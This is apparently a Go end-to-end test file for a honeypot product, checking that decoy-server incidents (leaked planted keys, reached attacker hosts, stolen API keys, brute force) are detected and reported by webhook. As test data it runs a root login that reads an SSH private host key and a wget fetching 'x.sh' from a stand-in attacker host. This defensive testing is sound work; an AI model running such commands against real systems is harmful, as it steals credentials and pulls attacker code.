//go:build servers

package e2e

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"go.cordon.dev/cordon/internal/testdebian"
	"go.cordon.dev/cordon/internal/testport"
)

// snare is a gateway with a decky that speaks SSH and HTTP, a Hypercore that is followed,
// and a receiver of what is told of incidents.
type snare struct {
	*gateway
	hook      *receiver
	core      string
	ssh, http string // ports
	dir       string
}

const trapPassword = "the-third-" + "guess"

func newSnare(t *testing.T) *snare {
	const secret = "whsec_" + "C2FVsBQIhrscChlQIMV+b5sSYspob7oD" // cordon:allow
	p := &snare{hook: newReceiver(t, secret), dir: t.TempDir()}
	p.core = filepath.Join(p.dir, "core")
	_, p.ssh, _ = strings.Cut(testport.Addr(t), ":")
	_, p.http, _ = strings.Cut(testport.Addr(t), ":")
	p.gateway = newGateway(t, "", fmt.Sprintf(`
leak: {sources: [{id: chat, kind: hypercore, path: %q}]}
deception:
  deckies:
    - name: trap
      archetype: linux-server
      address: 127.0.0.1
      services:
        - {kind: ssh, port: %s, config: {accept: {users: [root], passwords: [%q]}}}
        - {kind: http, port: %s}
notify: {webhooks: [{id: soc, url: %q, secret: %q, topics: ["incident.>"], allow_private: true}]}
`, p.core, p.ssh, trapPassword, p.http, p.hook.URL, secret))
	p.start()
	eventually(t, 2*time.Minute, "the decky to be known", func() bool { return strings.Contains(p.output(), "secrets that deckies hold are recognised") })
	return p
}

// login runs a command on the decky with Debian's client.
func (p *snare) login(command string) string {
	p.t.Helper()
	ask := filepath.Join(p.dir, "ask")
	mustDo(p.t, os.WriteFile(ask, []byte("#!/bin/sh\necho '"+trapPassword+"'\n"), 0o700))
	cmd := exec.Command(testdebian.Program(p.t, "openssh-client", "ssh"), "-F", "none", "-p", p.ssh, "-o", "UserKnownHostsFile="+p.dir+"/known", "-o", "StrictHostKeyChecking=accept-new",
		"-o", "NumberOfPasswordPrompts=1", "-o", "IdentityFile=none", "-o", "IdentityAgent=none", "root@127.0.0.1", command)
	cmd.Env = append(os.Environ(), "SSH_ASKPASS="+ask, "SSH_ASKPASS_REQUIRE=force", "HOME="+p.dir, "SSH_AUTH_SOCK=")
	var out, log bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &log
	if err := cmd.Run(); cmd.ProcessState == nil || cmd.ProcessState.ExitCode() == 255 { // any other is the command's
		p.t.Fatalf("ssh: %v\n%s", err, log.String())
	}
	return out.String()
}

// touch is a client of the decky that comes from an address of this machine.
func (p *snare) touch(from string) {
	p.t.Helper()
	out, err := exec.Command(testdebian.Program(p.t, "curl", "curl"), "-s", "--interface", from, "http://127.0.0.1:"+p.http+"/").CombinedOutput()
	if err != nil {
		p.t.Fatalf("curl: %v\n%s", err, out)
	}
}

// outside is an address of this machine by which somebody comes who is not the machine
// itself.
func outside(t *testing.T) string {
	t.Helper()
	all, err := net.InterfaceAddrs()
	mustDo(t, err)
	for _, a := range all {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() && !n.IP.IsLinkLocalUnicast() {
			return n.IP.String()
		}
	}
	t.Fatal("this machine has no IPv4 address besides loopback; give it one: ip link add joins type dummy && ip addr add 192.0.2.2/32 dev joins")
	return ""
}

// joined waits for the one incident and checks that it is told once, as what it is.
func (p *snare) joined(since time.Time, join, severity string, sensors []string, story ...string) {
	p.t.Helper()
	eventually(p.t, 2*time.Minute, "the incident", func() bool { all := p.incidents().Items; return len(all) > 0 && all[0].Join != "" })
	p.t.Logf("%s %v after the last half, as the command line sees it", join, time.Since(since).Round(time.Millisecond))
	all := p.incidents().Items
	if len(all) != 1 || all[0].Join != join || all[0].Severity != severity || !slices.Equal(all[0].Sensors, sensors) {
		p.t.Fatalf("incidents %+v", all)
	}
	shown := p.cli("incident", "show", all[0].ID)
	for _, want := range story {
		if !strings.Contains(shown, want) {
			p.t.Errorf("the timeline does not say %q:\n%s", want, shown)
		}
	}
	eventually(p.t, 2*time.Minute, "the webhook", func() bool { return p.hook.topics()["opened"] >= 1 })
	if got := p.hook.topics(); got["opened"] != 1 || len(p.hook.bad) > 0 {
		p.t.Errorf("told of %v, of which with a wrong signature %q", got, p.hook.bad)
	}
}

// (b) Whoever shows a key that only a decky holds was on the decky.
func TestASecretThatADeckyHoldsIsSeenInALog(t *testing.T) {
	t.Parallel()
	p := newSnare(t)
	key := p.login("cat /etc/ssh/ssh_host_ed25519_key")
	if !strings.HasPrefix(key, "-----BEGIN") {
		t.Fatalf("the decky shows %q", key)
	}
	since := time.Now()
	appendBatch(t, p.core, []string{message(rand.New(rand.NewPCG(1, 1)), 0, map[string]any{"note": key})})
	p.joined(since, "planted_secret_seen", "critical", []string{"leak"}, "/etc/ssh/ssh_host_ed25519_key of decky trap", "found in chat #0")
	p.stop()
	searchFor(t, tree(t, p.data), []planted{{form: "plain", plain: key, wire: strings.Split(key, "\n")[2]}})
}

// (d) A program of ours wants to go where an attacker wanted to get something from: it
// may be theirs by now.
func TestAProgramWantsToReachAnAttackersHost(t *testing.T) {
	t.Parallel()
	p := newSnare(t)
	const host = "cdn.updates-mirror.example"
	curl := func() {
		out, err := exec.Command(testdebian.Program(t, "curl", "curl"), "-s", "-x", "http://"+p.proxy, "http://"+host+"/x.sh").CombinedOutput()
		if err != nil || !strings.Contains(string(out), "egress") && !strings.Contains(string(out), host) {
			t.Fatalf("curl: %v\n%s", err, out)
		}
	}
	p.login("wget -q http://" + host + "/x.sh")
	since := time.Now()
	curl()
	p.joined(since, "attackers_host_wanted", "high", []string{"deception", "egress"}, "named "+host+" on decky trap (ssh)", "wanted to reach "+host+":80: refused")
}

// (e) Who attacks deckies has a key of ours.
func TestAnAttackerUsesAnAPIKey(t *testing.T) {
	t.Parallel()
	p, from := newSnare(t), outside(t)
	p.touch(from)
	client := http.Client{Transport: &http.Transport{DisableKeepAlives: true, DialContext: (&net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}}).DialContext}, Timeout: time.Minute}
	req, err := http.NewRequest(http.MethodGet, "http://"+p.addr+"/api/v1/quarantine", nil)
	mustDo(t, err)
	req.Header.Set("Authorization", "Bearer "+p.key)
	since := time.Now()
	r, err := client.Do(req)
	mustDo(t, err)
	mustDo(t, r.Body.Close())
	if r.StatusCode != http.StatusOK {
		t.Fatalf("the API answers %s", r.Status)
	}
	p.joined(since, "attacker_used_api_key", "critical", []string{"access", "deception"}, from+" connected to decky trap (http)", from+` used the API key "e2e"`)
}

// (c) Who guesses passwords elsewhere and touches a decky is one attacker.
func TestWhoTripsTheAnomalySensorTouchesADecky(t *testing.T) {
	t.Parallel()
	p, from := newSnare(t), outside(t)
	var records []map[string]any
	for i := range 12 {
		records = append(records, map[string]any{"kind": "auth_failed", "time": time.Now().Add(time.Duration(i-12) * time.Second).UTC().Format(time.RFC3339), "source_ip": from, "user": "root"})
	}
	body, err := json.Marshal(records)
	mustDo(t, err)
	req, err := http.NewRequest(http.MethodPost, "http://"+p.addr+"/api/v1/events", bytes.NewReader(body))
	mustDo(t, err)
	req.Header.Set("Authorization", "Bearer "+p.key)
	req.Header.Set("Content-Type", "application/json")
	r, err := http.DefaultClient.Do(req)
	mustDo(t, err)
	mustDo(t, r.Body.Close())
	if r.StatusCode != http.StatusAccepted {
		t.Fatalf("the API answers %s", r.Status)
	}
	since := time.Now()
	p.touch(from)
	p.joined(since, "anomalous_attacker", "high", []string{"anomaly", "deception"}, from+" connected to decky trap (http)", "brute_force: "+from)
}
